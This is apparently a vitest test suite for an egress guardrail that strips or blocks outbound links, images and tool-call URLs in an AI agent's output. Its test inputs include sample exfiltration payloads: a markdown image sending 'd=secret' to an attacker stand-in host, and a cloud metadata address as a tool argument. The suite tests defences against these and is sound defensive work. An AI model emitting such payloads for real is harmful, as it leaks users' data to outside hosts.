import { defineAgent, defineTool, run } from '@guardloop/core';
import { auditLog, callTool, say, scriptedModel } from '@guardloop/testing';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import type { EgressOptions } from './egress.js';
import { egress, findEgress } from './egress.js';

const fetched: string[] = [];
const fetchPage = defineTool({
  name: 'fetch_page',
  description: 'Fetches a page.',
  input: z.object({ url: z.string(), note: z.string() }),
  flow: { effect: 'read' },
  execute: ({ url }) => {
    fetched.push(url);
    return 'page';
  },
});

async function play(options: EgressOptions<'toolInput' | 'output'>, { url = 'https://shop.example/', note = '', answer = 'ok' } = {}) {
  fetched.length = 0;
  const model = scriptedModel([callTool('fetch_page', { url, note }), say(answer), say('again')]);
  const result = await run(defineAgent({ name: 'a', instructions: '', model, tools: [fetchPage], guardrails: [egress(options)] }), 'go');
  expect(auditLog(result.log)).toEqual([]);
  return result;
}

describe('the egress guardrail', () => {
  test('takes targets out of an answer and leaves its words', async () => {
    const answer =
      'See ![chart](https://evil.example/c?d=secret) and [the report](https://evil.example/r "Report"), [ours](https://shop.example/).';
    const result = await play({ allow: ['shop.example'] }, { answer });
    expect(result.status === 'completed' && result.output).toBe(
      'See ![chart]([external-image]) and [the report]([external-link] "Report"), [ours](https://shop.example/).',
    );
    expect(JSON.stringify(result.log)).not.toContain('d=secret');
  });

  test.each(['http://169.254.169.254/latest', 'evil.example/x', '//evil.example', 'https://me:pw@shop.example/'])(
    'refuses a call whose argument leads elsewhere, before it runs: %s',
    async (url) => {
      const result = await play({ allow: ['shop.example'] }, { url });
      expect(fetched).toEqual([]);
      expect(JSON.stringify(result.log.events.filter(({ type }) => type === 'guard.verdict'))).not.toContain(url);
      expect(result.status).toBe('completed');
    },
  );

  test('lets allowed calls run, and reads text in arguments as text', async () => {
    await play({ allow: ['shop.example'] }, { note: 'evil.example is a name, jo@evil.example an address' });
    expect(fetched).toEqual(['https://shop.example/']);
    await play({ allow: ['shop.example'] }, { note: '![x](https://evil.example/?q=1)' });
    expect(fetched).toEqual([]);
  });

  test('refuses or asks where it is told to', async () => {
    const denied = await play({ allow: ['shop.example'], then: { output: 'halt' } }, { answer: 'https://evil.example/' });
    expect(denied).toMatchObject({ status: 'blocked', reason: 'egress: external-link stood in the answer' });
    const asked = await play({ then: { toolInput: 'ask' } });
    expect(asked.status).toBe('interrupted');
  });

  test('may leave code alone', () => {
    const text = 'Run:\n```html\n<img src="https://evil.example/a">\n```\nor `https://evil.example/b`, not https://evil.example/c.';
    const { find } = findEgress({ code: 'skip' });
    expect(find(text, { surface: 'output' }).map(({ start, end }) => text.slice(start, end))).toEqual(['https://evil.example/c']);
    expect(findEgress().find(text, { surface: 'output' })).toHaveLength(3);
    // What opens and is not closed is code to a renderer too; a fence of another sign closes nothing.
    expect(find('~~~\nhttps://evil.example\n```\nhttps://evil.example', { surface: 'output' })).toEqual([]);
    expect(find('`` https://evil.example ` x', { surface: 'output' })).toHaveLength(1);
  });

  test('takes content without a click only from hosts that are named, unless others are listed for it', () => {
    const kinds = (options: EgressOptions, text: string) =>
      findEgress(options)
        .find(text, { surface: 'output' })
        .map(({ kind }) => kind);
    const image = '![a](https://img.corp.example/a.png)';
    expect(kinds({ allow: ['*.corp.example'] }, image)).toEqual(['external-image']);
    expect(kinds({ allow: ['img.corp.example'] }, image)).toEqual([]);
    expect(kinds({ allow: ['*.corp.example'], images: ['*.corp.example'] }, image)).toEqual([]);
    expect(kinds({ allow: ['img.corp.example'], images: [] }, image)).toEqual(['external-image']);
    expect(kinds({ allow: ['*'] }, image)).toEqual(['external-image']);
    expect(
      kinds(
        { allow: ['bücher.example', '[2001:4860::8888]', '8.8.8.8'] },
        'https://xn--bcher-kva.example/ http://[2001:4860:0::8888]/ http://8.8.2056/',
      ),
    ).toEqual([]);
    expect(kinds({ schemes: ['sms'] }, '[a](sms:+15550100) [b](ftp://shop.example)')).toEqual(['unusual-scheme']);
  });

  test.each([
    [{ allow: ['https://shop.example/'] }, /allow holds "https:\/\/shop.example\/", which is no host. Did you mean shop.example\?/],
    [{ allow: 'shop.example' }, /allow is no list of hosts/],
    [{ images: ['a b'] }, /images holds "a b", which is no host/],
    [{ alow: [] }, /no option alow. Did you mean allow\?/],
    [{ schemes: ['javascript'] }, /schemes holds one that runs programs/],
    [{ schemes: ['HTTPS:'] }, /schemes is no list of schemes/],
    [{ bareDomains: 'yes' }, /bareDomains is neither true nor false/],
    [{ code: 'no' }, /code is neither 'look' nor 'skip'/],
  ])('has options that are checked: %j', (options, message) => {
    expect(() => egress(options as never)).toThrow(message);
  });
});
